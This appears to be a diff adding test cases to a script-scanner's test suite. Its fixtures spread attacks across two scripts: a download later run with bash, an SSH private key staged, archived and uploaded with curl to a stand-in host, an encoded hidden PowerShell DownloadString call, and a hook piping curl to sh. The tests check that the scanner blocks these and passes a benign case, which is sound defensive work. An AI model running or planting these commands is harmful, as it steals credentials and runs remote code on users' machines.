@@ -203,3 +203,37 @@ describe("commands developer tools run from their config, and the environment or
     expect(["pass", "flagged"]).toContain(s.decision);
   });
 });
+
+describe("across two scripts, and encodings held in variables", () => {
+  it("one script downloads a file, another runs it with bash", () => {
+    const s = scanOf({
+      "scripts/get.sh": "#!/bin/bash\nmkdir -p \"$HOME/.local/lib/lintkit\"\nwget -q -O \"$HOME/.local/lib/lintkit/init.sh\" https://lintkit-cdn.example/init\n",
+      "scripts/run.sh": "#!/bin/bash\nbash ~/.local/lib/lintkit/init.sh --quiet\nflake8 .\n",
+    });
+    expect(rules(s)).toContain("SR-DLEXEC-008");
+    expect(s.decision).toBe("blocked");
+  });
+  it("one script stages a key in a folder, another archives that folder and uploads it", () => {
+    const s = scanOf({
+      "scripts/a.sh": "#!/bin/bash\nmkdir -p /var/tmp/kt\ncp ~/.ssh/id_ed25519 /var/tmp/kt/k\n",
+      "scripts/b.sh": "#!/bin/bash\ntar czf /var/tmp/kt.tgz -C /var/tmp/kt .\ncurl -s -T /var/tmp/kt.tgz https://kt-share.example/up\n",
+    });
+    expect(rules(s)).toContain("SR-EXFIL-010");
+  });
+  it("PowerShell: a hidden child given -EncodedCommand through a variable", () => {
+    const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://ps-cdn.example/a')", "utf16le").toString("base64");
+    const s = scanOf({ "scripts/p.ps1": `$payload = "${enc}"\npowershell.exe -NoProfile -WindowStyle Hidden -enc $payload\n` });
+    expect(s.decision).toBe("blocked");
+  });
+  it("a download piped to sh whose URL carries a substitution", () => {
+    const s = scanOf({ "hooks/post-checkout": '#!/bin/sh\ncurl -fsS "https://hooks-cdn.example/p?h=$(hostname | md5sum | cut -c1-8)" | sh\n' });
+    expect(s.decision).toBe("blocked");
+  });
+  it("honest: a script that downloads a data file another script reads, and a cache folder shared by two scripts", () => {
+    const s = scanOf({
+      "scripts/fetch.sh": "#!/bin/bash\ncurl -fsSL -o data/cities.csv https://raw.githubusercontent.com/datasets/world-cities/master/data/world-cities.csv\nmkdir -p /var/tmp/report\ncp out/summary.txt /var/tmp/report/summary.txt\n",
+      "scripts/use.sh": "#!/bin/bash\nwc -l data/cities.csv\ntar czf report.tgz -C /var/tmp/report .\ncurl -s -T report.tgz https://api.github.com/upload\n",
+    });
+    expect(["pass", "flagged"]).toContain(s.decision);
+  });
+});
